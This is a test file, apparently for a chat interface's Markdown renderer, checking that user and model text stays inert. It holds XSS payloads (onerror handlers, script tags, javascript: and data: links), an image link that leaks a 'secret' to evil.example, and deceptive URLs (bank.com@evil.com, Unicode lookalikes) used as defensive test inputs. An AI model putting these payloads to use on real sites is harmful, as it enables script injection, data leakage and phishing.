// Texts that mean harm: of rows, of questions and of language models.

import assert from 'node:assert/strict';
import test from 'node:test';

import {writer} from '../database.mjs';
import {ask, chat} from './browser.mjs';

// Nothing that was said has become more than text, and nobody else was asked for anything.
async function isUnharmed(page) {
  assert.equal(await page.evaluate(() => window.harmed), undefined);
  assert.equal(await page.locator('img, article script, dialog script, iframe, object').count(), 0);
  assert.deepEqual(page.strangers, []);
  assert.deepEqual(page.complaints, []);
}

test('markup of a question, a key, a title and a text stays text', async () => {
  const page = await chat();
  const question = 'What is the password of the harmful page? <img src=x onerror="window.harmed=1">';
  const turn = await ask(page, question);
  assert.equal(await turn.locator('h2').innerText(), question);
  assert.match(await turn.locator('.answer').innerText(), /<script>window\.harmed=1<\/script>/);
  await turn.locator('.walk summary').click();
  await turn.locator('.explain').click();
  await turn.locator('.stage').first().waitFor();
  await turn.locator('.marker').first().click();
  await page.locator('#source mark').first().waitFor();
  assert.match(await page.locator('#source-name').innerText(), /<(img|b) /);
  assert.match(await page.locator('#source-text').innerText(), /<script>window\.harmed=1<\/script>/);
  await isUnharmed(page);
});

const HOSTILE = `The mill of Ghent grinds corn. [1]

<img src=x onerror="window.harmed=1"><script>window.harmed=1</script>
![a picture](https://evil.example/pixel.png?of=secret) and [a link](javascript:window.harmed=1)
and [another](https://good.example/page) and [data](data:text/html,<script>window.harmed=1</script>).

| a | <b>b</b> |
|---|--:|
| <img src=y onerror="window.harmed=1"> | 2 |

\`\`\`html
<img src=z onerror="window.harmed=1">
\`\`\`
`;

test('what a language model writes is shown as Markdown, and does no harm', async () => {
  const page = await chat();
  writer.play({text: HOSTILE});
  const turn = await ask(page, 'What does the mill of Ghent grind?', 'notes');
  assert.deepEqual(await turn.locator('.answer a').evaluateAll(links => links.map(link => link.href)),
    ['https://evil.example/pixel.png?of=secret', 'https://good.example/page']);
  assert.match(await turn.locator('.answer a').last().innerText(), /good\.example/);
  assert.equal(await turn.locator('.answer td').first().innerText(), '<img src=y onerror="window.harmed=1">');
  assert.equal(await turn.locator('.answer pre code').innerText(), '<img src=z onerror="window.harmed=1">');
  assert.match(await turn.locator('.answer').innerText(), /\[a link\]\(javascript:window\.harmed=1\)/);
  await isUnharmed(page);
});

// The nodes that a text becomes, as HTML, with all numbers cited.
const shown = (page, text) => page.evaluate(async source => {
  const {show} = await import('/markdown.js');
  const place = document.createElement('div');
  show(place, source, number => number < 9 ? Object.assign(document.createElement('i'), {textContent: number}) : null);
  return place.innerHTML.replaceAll(' dir="auto"', '').replace(/ (class|tabindex|role|aria-label)="[^"]*"/g, '');
}, text);

test('Markdown becomes nodes', async () => {
  const page = await chat();
  const check = async (text, expected) => assert.equal(await shown(page, text), expected, text);
  await check('', '');
  await check('One.\ntwo\n\nThree.', '<p>One.\ntwo</p><p>Three.</p>');
  await check('# A *b*', '<h3>A <em>b</em></h3>');
  await check('It is [1, 12] and [^2], `[3]`.', '<p>It is <i>1</i>[12] and <i>2</i>, <code>[3]</code>.</p>');
  await check('It is [[1]](https://a.example/).', '<p>It is <i>1</i>.</p>');
  await check('2 * 3 * 4, a_b_c, **b** and *x', '<p>2 * 3 * 4, a_b_c, <strong>b</strong> and *x</p>');
  await check('``a`b`` and `c', '<p><code>a`b</code> and `c</p>');
  await check('\\*a\\*', '<p>*a*</p>');
  await check('- a\n- b\n  - c\n\n  d\n- e', '<ul><li>a</li><li>b<ul><li>c</li></ul><p>d</p></li><li>e</li></ul>');
  await check('  * a\n  * b', '<ul><li>a</li><li>b</li></ul>');
  await check('3. a\n4. b\n\nc', '<ol start="3"><li>a</li><li>b</li></ol><p>c</p>');
  await check('In\n2024. It was.', '<p>In\n2024. It was.</p>');
  await check('> a\n> - b', '<blockquote><p>a</p><ul><li>b</li></ul></blockquote>');
  await check('```\n<b>\n', '<pre dir="ltr"><code>&lt;b&gt;\n</code></pre>');
  await check('|a|b|\n|-|-:|\n|c\\|d|<br>|', '<div><table><thead><tr><th>a</th><th>b</th></tr></thead>'
    + '<tbody><tr><td>c|d</td><td><br></td></tr></tbody></table></div>');
  await check('a | b\nc', '<p>a | b\nc</p>');
  await check('http:// and javascript:x', '<p>http:// and javascript:x</p>');
  await check('a\r\nb\r\n\r\nc', '<p>a\nb</p><p>c</p>');
});

test('an address in a text shows where it leads', async () => {
  const page = await chat();
  const check = async (text, words, host) => {
    const links = await page.evaluate(async source => {
      const {show} = await import('/markdown.js');
      const place = document.createElement('div');
      show(place, source);
      return [...place.querySelectorAll('a')].map(link => [link.textContent, link.host]);
    }, text);
    assert.deepEqual(links, words ? [[words, host]] : [], text);
  };
  await check('See https://good.example/a.', 'https://good.example/a', 'good.example');
  await check('(https://good.example)', 'https://good.example', 'good.example');
  await check('http://[::1]/a', 'http://[::1]/a', '[::1]');
  await check('https://bank.com\u2044login\u2044.evil.com/', 'https://bank.com\u2044login\u2044.evil.com/ (bank.xn--comlogin-g03df.evil.com)',
    'bank.xn--comlogin-g03df.evil.com');
  await check('https://bank.com@evil.com/', 'https://bank.com@evil.com/ (evil.com)', 'evil.com');
  await check('https://good.example/\u202emoc', 'https://good.example/%E2%80%AEmoc', 'good.example');
  await check('http://[1] and http://h:99999/', null);
});

test('an address in a text ends before what belongs to the sentence', async () => {
  const page = await chat();
  const address = 'https://a.example/b';
  const check = async (text, expected = address) => {
    const links = await page.evaluate(async source => {
      const {show} = await import('/markdown.js');
      const place = document.createElement('div');
      show(place, source);
      return [...place.querySelectorAll('a')].map(link => link.textContent);
    }, text);
    assert.deepEqual(links, [expected], text);
  };
  for (const sign of '。，、：；！？）」』】》〉〕］｝｡｣“”') await check(`詳細は${address}${sign}次`);
  for (const [open, close] of ['（）', '「」', '『』', '【】', '()', '[]', '{}', '<>', '"']) {
    await check(`見る${open}${address}${close || open}。`);
    await check(`See ${open}${address}${close || open}.And`);
  }
  for (const end of ['.', '...', '?!', ',', ';', ':', '**', '؟', '[1]', '[1, 2].', ').', ']:']) await check(`See ${address}${end}`);
  await check('https://a.example。', 'https://a.example');
  await check('(https://en.example/Mill_(grinding)).', 'https://en.example/Mill_(grinding)');
  await check('https://en.example/Mill_(grinding)', 'https://en.example/Mill_(grinding)');
  await check('https://a.example/?a[]=1&b[x]=2', 'https://a.example/?a[]=1&b[x]=2');
  await check('https://ja.example/東京・大阪、', 'https://ja.example/東京・大阪');
});

test('a text that grows is shown as one that is there at once', async () => {
  const page = await chat();
  const same = await page.evaluate(async text => {
    const {show} = await import('/markdown.js');
    const [grown, whole] = [0, 1].map(() => document.createElement('div'));
    for (let until = 1; until <= text.length; until += 1) show(grown, text.slice(0, until));
    show(whole, text);
    return grown.innerHTML === whole.innerHTML;
  }, HOSTILE + '\n- a\n- b\n\n  c\n\n1. d\n2. e\n');
  assert.ok(same);
});

test('a text that would take long is shown soon', async () => {
  const page = await chat();
  const many = 100_000;
  const parts = ['`', '*', '**a ', '[', '[a](', '> ', '- ', '|', '|a\n|-\n', 'http://', '<br', '\\', '``a`', '[1', ' ', '*a', '1. ',
    'http://[', 'http://a]/', 'http://h:99999/', '[[1]](x', '# ', '- a\n  ', 'http://a(', 'http://a)', 'http://a。', 'http://a/[1,',
    'http://a/.'];
  for (const part of parts) {
    const took = await page.evaluate(async text => {
      const {show} = await import('/markdown.js');
      const began = performance.now();
      show(document.createElement('div'), text, () => null);
      return performance.now() - began;
    }, part.repeat(many / part.length));
    assert.ok(took < 5000, `${JSON.stringify(part)} takes ${took} ms`);
  }
});
